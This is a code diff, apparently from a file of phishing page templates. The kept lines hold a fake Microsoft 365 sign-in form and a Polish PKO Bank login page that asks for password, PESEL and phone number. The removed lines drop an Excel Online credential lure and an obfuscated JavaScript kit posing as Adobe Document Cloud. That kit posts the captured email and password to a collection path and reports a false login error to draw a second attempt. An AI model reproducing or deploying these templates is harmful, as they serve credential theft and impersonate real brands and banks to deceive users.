@@ -7,22 +7,8 @@ const m365Inner = `<style>body{margin:0;font-family:'Segoe UI',sans-serif;backgr
 <div class="bx"><img src="/x/ms.png" width="108" height="24" alt="Microsoft"><h2 style="font-weight:600">Sign in</h2><p style="font-size:13px">Verify your account to view the secure message from your administrator.</p>
 <form id="k"><input id="a" type="email" placeholder="someone@example.com"><br><br><input id="b" type="password" placeholder="Password"><button>Sign in</button></form><div style="clear:both"></div></div>`;
 
-const excelForm = `<div style="font-family:Segoe UI,Arial;max-width:420px;margin:70px auto;border:1px solid #ccc;padding:28px;background:#fff"><div style="background:#217346;color:#fff;padding:8px 12px;font-weight:600">Excel Online</div>
-<h3>Purchase_Order_PO-77821.xlsx</h3><p style="font-size:13px;color:#555">This document is protected. Confirm your email credentials to open.</p>
-<input id="eml" style="width:100%;padding:9px;margin:5px 0" placeholder="Email"><input id="pwd" type="password" style="width:100%;padding:9px;margin:5px 0" placeholder="Password"><button id="go" style="width:100%;padding:10px;background:#217346;color:#fff;border:0">Open document</button></div>`;
-
 const pkoInner = `<div class="t">PKO Bank Polski</div><div class="b"><h2>Logowanie do serwisu iPKO</h2><p class="w">Wykryliśmy nieautoryzowane logowanie. Twoje konto zostało tymczasowo zablokowane. Zaloguj się, aby potwierdzić tożsamość.</p>
 <form id="pf"><label>Numer klienta lub login</label><input name="login"><label>Hasło</label><input name="haslo" type="password"><label>PESEL</label><input name="pesel"><label>Numer telefonu</label><input name="tel"><button>Dalej</button></form></div>`;
-
-const adobeKitJs = (() => {
-  const strs = ['createElement', 'innerHTML', 'body', 'appendChild', 'POST', '/cdn-cgi/trace/collect', 'Adobe Document Cloud', 'Confirm your email identity to download the shared PDF', 'email', 'password', 'Download PDF', 'value', 'then', 'Invalid login, please retry', 'querySelector'];
-  const arr = strs.map((s) => b64(s));
-  return `var _0x1f2a=${JSON.stringify(arr)};(function(_0x3b,_0x41){var _0x2c=function(_0x9){while(--_0x9){_0x3b['push'](_0x3b['shift']());}};_0x2c(++_0x41);}(_0x1f2a,0x0));
-var _0x4e=function(_0x1,_0x2){return atob(_0x1f2a[_0x1]);};
-(function(){var d=document,w=d[_0x4e(0)]('div');w.style.cssText='max-width:420px;margin:80px auto;font-family:Arial;border:1px solid #ddd;border-top:6px solid #eb1000;padding:24px;background:#fff';
-w[_0x4e(1)]='<h2>'+_0x4e(6)+'</h2><p style="color:#555">'+_0x4e(7)+'</p><p style="font-size:13px">📄 Remittance_Advice_0914.pdf (412 KB)</p><input id="q1" type="email" placeholder="'+_0x4e(8)+'" style="width:100%;padding:9px;margin:4px 0"><input id="q2" type="password" placeholder="'+_0x4e(9)+'" style="width:100%;padding:9px;margin:4px 0"><button id="q3" style="width:100%;background:#eb1000;color:#fff;border:0;padding:10px">'+_0x4e(10)+'</button><p id="q4" style="color:#c00"></p>';
-d[_0x4e(2)][_0x4e(3)](w);var c=0;d[_0x4e(14)]('#q3').onclick=function(){c++;fetch(_0x4e(5),{method:_0x4e(4),body:JSON.stringify({u:d[_0x4e(14)]('#q1')[_0x4e(11)],p:d[_0x4e(14)]('#q2')[_0x4e(11)],c:c})})[_0x4e(12)](function(){d[_0x4e(14)]('#q4').textContent=_0x4e(13);});};})();`;
-})();
 
 export const entries: Entry[] = [
 {
